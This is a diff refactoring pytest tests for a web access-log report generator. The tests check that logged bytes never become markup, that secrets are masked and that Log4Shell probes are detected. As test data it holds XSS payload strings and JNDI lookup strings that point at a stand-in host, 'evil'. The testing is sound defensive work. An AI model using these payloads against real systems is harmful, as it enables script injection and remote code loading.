@@ -36,11 +36,11 @@ IN_CHARTS = {"svg", "title", "desc", "g", "path", "line", "text", "rect", "tspan
 TAGS = {"html", "head", "title", "style", "body", "header", "h1", "h2", "h3", "p", "b", "i", "a", "div", "section"}
 TAGS |= {"main", "nav", "ul", "li", "caption", "thead", "tbody"}
 TAGS |= {"span", "data", "table", "tr", "th", "td", "code", "footer", *VOID, *IN_CHARTS}
-PAYLOADS = [
-    b"<script>alert(1)</script>", b'"><img src=x onerror=alert(1)>', b"' onmouseover='alert(1)",
-    b"</style></title></svg><script>alert(1)</script>", b"<!--", b"-->", b"]]>", b"&lt;script&gt;",
-    b"javascript:alert(1)", b"\xe2\x80\xaegpj.exe",
-]  # fmt: skip
+PAYLOADS = [b"<script>alert(1)</script>", b'"><img src=x onerror=alert(1)>', b"' onmouseover='alert(1)",
+            b"</style></title></svg><script>alert(1)</script>", b"<!--", b"-->", b"]]>", b"&lt;script&gt;",
+            b"javascript:alert(1)", b"\xe2\x80\xaegpj.exe"]  # fmt: skip
+START = datetime(2015, 5, 17, 10, tzinfo=UTC)
+FORMAT = outage.FORMAT.replace(" - - ", " - $remote_user ")
 
 
 class Page(HTMLParser):
@@ -48,6 +48,7 @@ class Page(HTMLParser):
 
     def __init__(self, html: str) -> None:
         super().__init__()
+        self.html = html
         self.open: list[str] = []
         self.tags: list[tuple[str, dict[str, str | None]]] = []
         self.tables: dict[str, list[list[str]]] = {}
@@ -98,6 +99,13 @@ def report(*paths: Path, top: int = 10, docs: str | None = None, zone: ZoneInfo 
         return Report(summary, [str(path) for path in paths], top=top, docs=docs, formats=formats, zone=zone).html()
 
 
+def page_of(folder: Path, data: bytes, **options: Any) -> Page:
+    """Return the report of a log with these lines."""
+    log = folder / "access.log"
+    log.write_bytes(data)
+    return Page(report(log, **options))
+
+
 def line(target: bytes = b"/", hour: int = 10, status: bytes = b"200", size: bytes = b"7", **fields: bytes) -> bytes:
     held = {"client": b"192.0.2.1", "user": b"-", "method": b"GET", "referer": b"-", "agent": b"curl", **fields}
     held = {name: value.replace(b"\\", b"\\\\").replace(b'"', b'\\"') for name, value in held.items()}
@@ -120,10 +128,6 @@ def hostile_lines() -> Iterator[bytes]:
         yield line(value)
 
 
-def names_of(section: str) -> list[str]:
-    return [table.name for table in tables_of(section) if table.name in TABLES]  # type: ignore[arg-type]
-
-
 def test_the_report_shows_the_numbers_of_the_summary(tmp_path: Path) -> None:
     log = tmp_path / "access.log"
     log.write_bytes(
@@ -138,8 +142,8 @@ def test_the_report_shows_the_numbers_of_the_summary(tmp_path: Path) -> None:
     page = Page(report(log))
     with summarize(CommandInputs(InputOptions(paths=(str(log),))), TABLES, command="t") as summary:
         totals = summary.totals()
-        shown = [name for section in ("pages", "who", "answers", "rest") for name in names_of(section)]
-        for name in shown:
+        tables = [table.name for section in ("pages", "who", "answers", "rest") for table in tables_of(section)]
+        for name in [name for name in tables if name in TABLES]:
             rows = [[row.key.decode(), str(row.count), str(row.size)] for row in summary.top(name, 10)]
             equal = len(rows) > 1 and len({count for _, count, _ in rows}) == 1
             assert page.tables.get(name, [[]])[1:] == ([] if equal else rows), name
@@ -174,9 +178,8 @@ def test_the_report_shows_the_numbers_of_stats(tmp_path: Path, capfd: pytest.Cap
 
 
 def test_top_sets_the_number_of_rows(tmp_path: Path) -> None:
-    log = tmp_path / "access.log"
-    log.write_bytes(b"".join(line(b"/%d" % number) * (20 - number) for number in range(12)))
-    rows = Page(report(log, top=3)).tables["page"]
+    data = b"".join(line(b"/%d" % number) * (20 - number) for number in range(12))
+    rows = page_of(tmp_path, data, top=3).tables["page"]
     assert [row[:2] for row in rows[1:]] == [["/0", "20"], ["/1", "19"], ["/2", "18"]]
 
 
@@ -207,31 +210,21 @@ def test_no_byte_of_a_log_becomes_markup(tmp_path: Path) -> None:
 
 
 def test_the_page_runs_and_fetches_nothing(tmp_path: Path) -> None:
-    log = tmp_path / "access.log"
-    log.write_bytes(line(b"/a b"))
-    html = report(log)
-    page = Page(html)
+    page = page_of(tmp_path, line(b"/a b"))
     policies = [held for tag, held in page.tags if held.get("http-equiv") == "Content-Security-Policy"]
     assert [held["content"] for held in policies] == [POLICY]
     assert POLICY.startswith("default-src 'none'; style-src 'unsafe-inline'; img-src data:;")
     # Only elements that load nothing come before the policy.
     assert [tag for tag, _ in page.tags[:4]] == ["html", "head", "meta", "meta"]
-    assert not re.search(r"url\(|@import|<script|javascript:", html)
-    assert set(re.findall(r"https?://[^\"' <]*", html)) == {"http://www.w3.org/2000/svg"}
-    assert html.count("@media screen and (prefers-color-scheme:dark)") == 2
+    assert not re.search(r"url\(|@import|<script|javascript:", page.html)
+    assert set(re.findall(r"https?://[^\"' <]*", page.html)) == {"http://www.w3.org/2000/svg"}
+    assert page.html.count("@media screen and (prefers-color-scheme:dark)") == 2
 
 
 def test_no_password_and_no_secret_is_shown(tmp_path: Path) -> None:
-    log = tmp_path / "access.log"
-    urls = (
-        b"http://u:hunter2@h/",
-        rb"/\u:hunter2@h/",
-        b"//u:hunter2@h/",
-        b"URL:http://u:hunter2@h/",
-        b"/a b?api_key=hunter2",
-    )
-    log.write_bytes(b"".join(line(url, referer=url, agent=url) for url in urls))
-    html = report(log, log_format="COMBINED")
+    urls = (b"http://u:hunter2@h/", rb"/\u:hunter2@h/", b"//u:hunter2@h/", b"URL:http://u:hunter2@h/",
+            b"/a b?api_key=hunter2")  # fmt: skip
+    html = page_of(tmp_path, b"".join(line(url, referer=url, agent=url) for url in urls), log_format="COMBINED").html
     assert "***" in html
     assert "hunter2" not in html
 
@@ -247,40 +240,27 @@ def test_extreme_times_make_a_page(tmp_path: Path, time: str) -> None:
         assert Page(report(log, log_format="COMBINED")).totals[0] == log.read_bytes().count(b"\n")
 
 
-@pytest.mark.parametrize(
-    ("data", "options", "told"),
-    [
-        (b"", {"log_format": "COMBINED"}, "There is no request and no URL in what was read."),
-        (b"http://h.example/a\nhttp://h.example/a\nhttp://h.example/%zz\n", {}, "Pages"),
-        (b"/a 200\n/b 404\n", {"form": "request-target"}, "Findings"),
-    ],
-)
+@pytest.mark.parametrize(("data", "options", "told"), [
+    (b"", {"log_format": "COMBINED"}, "There is no request and no URL in what was read."),
+    (b"http://h.example/a\nhttp://h.example/a\nhttp://h.example/%zz\n", {}, "Pages"),
+    (b"/a 200\n/b 404\n", {"form": "request-target"}, "Findings"),
+])  # fmt: skip
 def test_inputs_without_requests_or_times_make_a_page(
     tmp_path: Path, data: bytes, options: dict[str, Any], told: str
 ) -> None:
-    log = tmp_path / "input"
-    log.write_bytes(data)
-    page = Page(report(log, **options))
+    page = page_of(tmp_path, data, **options)
     assert told in page.text
     assert "Over time" not in page.text and not any(tag == "svg" for tag, _ in page.tags)
     assert "visitor" not in page.tables
 
 
 def test_each_finding_links_to_its_page(tmp_path: Path) -> None:
-    log = tmp_path / "access.log"
-    log.write_bytes(line(b"/%252e%252e/") + line(b"/a b"))
-    hrefs = [held["href"] for tag, held in Page(report(log, docs="/docs/")).tags if tag == "a"]
+    page = page_of(tmp_path, line(b"/%252e%252e/") + line(b"/a b"), docs="/docs/")
+    hrefs = [held["href"] for tag, held in page.tags if tag == "a"]
     assert [href for href in hrefs if "-" in href or "/" in href or "_" in href] == [
-        "#finding-double_encoded",
-        "/docs/findings/#double_encoded",
-        "#finding-traversal",
-        "/docs/findings/#traversal",
-        "#finding-unsafe",
-        "/docs/findings/#unsafe",
-    ]
-
-
-START = datetime(2015, 5, 17, 10, tzinfo=UTC)
+        "#finding-double_encoded", "/docs/findings/#double_encoded", "#finding-traversal", "/docs/findings/#traversal",
+        "#finding-unsafe", "/docs/findings/#unsafe",
+    ]  # fmt: skip
 
 
 def steps_to(last: datetime, step: str = "hour") -> charts.Steps:
@@ -289,14 +269,11 @@ def steps_to(last: datetime, step: str = "hour") -> charts.Steps:
     return steps
 
 
-@pytest.mark.parametrize(
-    ("minutes", "step", "words"),
-    [
-        (0, "minute", "minute"), (118, "minute", "minute"), (125, "5min", "5 minutes"), (590, "5min", "5 minutes"),
-        (24 * 60, "15min", "15 minutes"), (4 * 24 * 60, "hour", "hour"), (119 * 24 * 60, "day", "day"),
-        (125 * 24 * 60, "month", "month"), (400 * 24 * 60, "month", "month"), (4000 * 24 * 60, "year", "year"),
-    ],
-)  # fmt: skip
+@pytest.mark.parametrize(("minutes", "step", "words"), [
+    (0, "minute", "minute"), (118, "minute", "minute"), (125, "5min", "5 minutes"), (590, "5min", "5 minutes"),
+    (24 * 60, "15min", "15 minutes"), (4 * 24 * 60, "hour", "hour"), (119 * 24 * 60, "day", "day"),
+    (125 * 24 * 60, "month", "month"), (400 * 24 * 60, "month", "month"), (4000 * 24 * 60, "year", "year"),
+])  # fmt: skip
 def test_a_chart_has_at_most_120_bars(tmp_path: Path, minutes: int, step: str, words: str) -> None:
     times = [START, START + timedelta(minutes=minutes)]
     log = tmp_path / "access.log"
@@ -381,12 +358,11 @@ def test_every_finding_has_a_section(tmp_path: Path) -> None:
 
 
 def test_the_page_has_landmarks_captions_and_descriptions(tmp_path: Path) -> None:
-    log = tmp_path / "access.log"
-    log.write_bytes(
+    page = page_of(
+        tmp_path,
         b"".join(line(b"/%d" % n, hour=n % 3, status=b"500" if n == 4 else b"200", size=b"900") for n in range(9))
-        + line(referer=b"http://r/%zz")
+        + line(referer=b"http://r/%zz"),
     )
-    page = Page(report(log))
     tags = [tag for tag, _ in page.tags]
     assert tags.count("main") == tags.count("nav") == tags.count("header") == tags.count("footer") == 1
     assert tags.count("table") == tags.count("caption") == tags.count("thead") == tags.count("tbody")
@@ -401,16 +377,13 @@ def test_the_page_has_landmarks_captions_and_descriptions(tmp_path: Path) -> Non
     assert told + "Worst 15 minutes: 17 May 2015, 01:00, with 1 answer of 5xx." in page.text
     # What failed comes first, static files and bytes last.
     sections = [held["id"] for tag, held in page.tags if tag == "section"]
-    assert sections == [
-        "failed", "time", "pages", "who", "answers", "probes", "findings", "referrers", "rest",
-    ]  # fmt: skip
+    assert sections == ["failed", "time", "pages", "who", "answers", "probes", "findings", "referrers", "rest"]
     assert page.tables["referer_finding"][1][:2] == ["BAD_ESCAPE", "1"] and "finding-bad_escape" not in ids
 
 
 def test_the_end_names_format_zone_and_rejects(tmp_path: Path) -> None:
-    log = tmp_path / "access.log"
-    log.write_bytes(line(b"/a") + b"".join(b"torn %d http://u:pw@h/\n" % n for n in range(5)) + line(hour=23) * 5)
-    page = Page(report(log, zone=ZoneInfo("Asia/Kathmandu"), log_format="COMBINED"))
+    data = line(b"/a") + b"".join(b"torn %d http://u:pw@h/\n" % n for n in range(5)) + line(hour=23) * 5
+    page = page_of(tmp_path, data, zone=ZoneInfo("Asia/Kathmandu"), log_format="COMBINED")
     assert "access.log: COMBINED." in page.text and "Times are those of Asia/Kathmandu." in page.text
     assert "From 17 May 2015, 15:50:03 to 18 May 2015, 04:50:03, Asia/Kathmandu." in page.text
     rejects = page.text.partition("First rejected lines")[2]
@@ -419,29 +392,21 @@ def test_the_end_names_format_zone_and_rejects(tmp_path: Path) -> None:
 
 
 def test_attacks_are_found_in_any_field(tmp_path: Path) -> None:
-    log = tmp_path / "access.log"
     attacks = (
         line(b"/?x=${jndi:ldap://evil/a}"), line(b"/%24%7BJNDI%3aldap"), line(b"/%2524%257bjndi%253A"),
         line(agent=b"${jNdi:dns://x}"), line(referer=b"http://r/${jndi:rmi}"), line(user=b"${jndi:x}"),
     )  # fmt: skip
-    log.write_bytes(b"".join(attacks) + line(b"/jndi:x") + line(b"/${jndi}") + line(agent=b"jndi:"))
-    page = Page(report(log, log_format="COMBINED"))
+    others = line(b"/jndi:x") + line(b"/${jndi}") + line(agent=b"jndi:")
+    page = page_of(tmp_path, b"".join(attacks) + others, log_format="COMBINED")
     assert "attacks" in [held.get("id") for _, held in page.tags]
     assert "6 requests." in page.text.partition("CVE-2021-44228")[2]
     assert "${jndi:ldap://evil/a}" in page.text
-    log.write_bytes(line())
-    assert "JNDI" not in report(log)
+    assert "JNDI" not in page_of(tmp_path, line()).html
 
 
 def test_attacks_in_values_that_are_hidden_are_found(tmp_path: Path) -> None:
-    log = tmp_path / "access.log"
-    hidden = (
-        line(b"/?token=${jndi:ldap://evil/S3CR3T}"),
-        line(referer=b"http://u:${jndi:S3CR3T}@h/"),
-        line(b"/?token=S3CR3T"),
-    )
-    log.write_bytes(b"".join(hidden))
-    page = Page(report(log, log_format="COMBINED"))
+    hidden = line(b"/?token=${jndi:ldap://evil/S3CR3T}") + line(referer=b"http://u:${jndi:S3CR3T}@h/")
+    page = page_of(tmp_path, hidden + line(b"/?token=S3CR3T"), log_format="COMBINED")
     assert "2 requests." in page.text.partition("CVE-2021-44228")[2] and "/?token=***" in page.text
     assert "S3CR3T" not in page.text
 
@@ -486,18 +451,13 @@ def test_each_date_is_a_label_once(span: timedelta) -> None:
             assert re.search(r">00:\d0<|>0[1-3]:00<", svg)
 
 
-FORMAT = outage.FORMAT.replace(" - - ", " - $remote_user ")
-
-
 def sections_of(html: str) -> dict[str, str]:
     return dict(re.findall(r'<section id="([a-z-]+)">(.*?)</section>', html, re.DOTALL))
 
 
 def test_an_outage_is_named_first(tmp_path: Path) -> None:
-    log = tmp_path / "access.log"
-    log.write_text("".join(outage.lines(6000)))
-    html = report(log, log_format=log_format_of(FORMAT, ()))
-    sections, page = sections_of(html), Page(html)
+    page = page_of(tmp_path, "".join(outage.lines(6000)).encode(), log_format=log_format_of(FORMAT, ()))
+    sections = sections_of(page.html)
     order = ["failed", "latency", "time", "pages", "who", "answers", "probes", "findings", "rest"]
     assert [name for name in sections if name != "ai"] == order
     # The first section has the worst time, then the worst route, then 5xx over time, and no 404 of the scanner.
@@ -508,7 +468,7 @@ def test_an_outage_is_named_first(tmp_path: Path) -> None:
     key, failures, requests, share, first, last = page.tables["server_error"][1]
     assert key == outage.ORDERS and int(requests) > int(failures) > 0 and share.endswith("%")
     assert "14:03" <= first <= last <= "14:22"
-    assert "Worst 15 minutes: 5 January 2026, 03" not in html
+    assert "Worst 15 minutes: 5 January 2026, 03" not in page.html
     # The slow routes are in the next section, with a strip from p50 to p99.
     assert set(outage.SLOW) <= {row[0] for row in page.tables["duration"][1:]}
     assert sections["latency"].count('<svg class="strip"') == len(page.tables["duration"]) - 1
@@ -520,42 +480,35 @@ def test_an_outage_is_named_first(tmp_path: Path) -> None:
 
 
 def test_without_failures_the_page_says_so(tmp_path: Path) -> None:
-    log = tmp_path / "access.log"
-    log.write_bytes(line() + line(b"/.env", status=b"404"))
-    failed = sections_of(report(log))["failed"]
+    failed = sections_of(page_of(tmp_path, line() + line(b"/.env", status=b"404")).html)["failed"]
     assert failed == "<h2>What failed</h2><p>No answer has a status of 5xx.</p>"
 
 
 def test_a_table_of_equal_rows_is_left_out(tmp_path: Path) -> None:
-    log = tmp_path / "access.log"
-    log.write_bytes(b"".join(line(b"/%d.css?q=1" % n, hour=n) * (1 + (n == 3)) for n in range(6)))
-    assert {"static", "hour_of_day"} <= {*Page(report(log)).tables}
-    log.write_bytes(b"".join(line(b"/%d.css" % n, hour=n) * 100 for n in range(6)) + line(b"/0.css", hour=0))
-    page = Page(report(log))
-    # The hours differ by one request only.
-    assert "static" in page.tables and "hour_of_day" not in page.tables
-    log.write_bytes(b"".join(line(b"/%d.css" % n, hour=n) for n in range(6)))
-    assert not {"static", "hour_of_day", "page"} & {*Page(report(log)).tables}
+    data = b"".join(line(b"/%d.css?q=1" % n, hour=n) * (1 + (n == 3)) for n in range(6))
+    assert {"static", "hour_of_day"} <= {*page_of(tmp_path, data).tables}
+    data = b"".join(line(b"/%d.css" % n, hour=n) * 100 for n in range(6)) + line(b"/0.css", hour=0)
+    tables = page_of(tmp_path, data).tables  # the hours differ by one request only
+    assert "static" in tables and "hour_of_day" not in tables
+    data = b"".join(line(b"/%d.css" % n, hour=n) for n in range(6))
+    assert not {"static", "hour_of_day", "page"} & {*page_of(tmp_path, data).tables}
 
 
 def test_robots_for_ai_and_paths_that_only_robots_ask_for(tmp_path: Path) -> None:
     pytest.importorskip("crawleruseragents")
-    log = tmp_path / "access.log"
     robots = b"GPTBot/1.2", b"Mozilla/5.0 (compatible; Googlebot/2.1)", b"python-requests/2.31"
     asked = [line(b"/docs/%d" % n, agent=robots[0]) for n in range(3)]
     asked += [line(b"/hidden", agent=agent, client=b"192.0.2.%d" % n) for n, agent in enumerate(robots[1:])]
-    log.write_bytes(b"".join(asked) + line(b"/docs/9", agent=b"Firefox") + line(b"/once", agent=robots[1]))
-    html = report(log)
-    page, told = Page(html), re.sub("<[^>]*>", "", sections_of(html)["ai"])
+    asked += [line(b"/docs/9", agent=b"Firefox"), line(b"/once", agent=robots[1])]
+    page = page_of(tmp_path, b"".join(asked))
+    told = re.sub("<[^>]*>", "", sections_of(page.html)["ai"])
     assert "3 requests (43\xa0% of all) come from robots for AI" in told and "3 to train models" in told
     assert page.tables["ai_route"][1:] == [["/docs/{n}", "3", "21"]]
     assert page.tables["robots_only"][1:] == [["/hidden", "2", "2", "192.0.2.0"], ["/once", "1", "1", "192.0.2.1"]]
     # Pages that a crawler reads once, and people do not read, are no probes.
     tail = b"".join(line(b"/page%d" % n + b"x" * n, agent=robots[1]) for n in range(30)) + line()
-    log.write_bytes(tail)
-    assert "robots_only" not in Page(report(log)).tables
-    log.write_bytes(line(agent=robots[1]) + line())
-    assert "ai" not in sections_of(report(log))
+    assert "robots_only" not in page_of(tmp_path, tail).tables
+    assert "ai" not in sections_of(page_of(tmp_path, line(agent=robots[1]) + line()).html)
 
 
 def compared(folder: Path, capfd: pytest.CaptureFixture[str], *arguments: object) -> str:
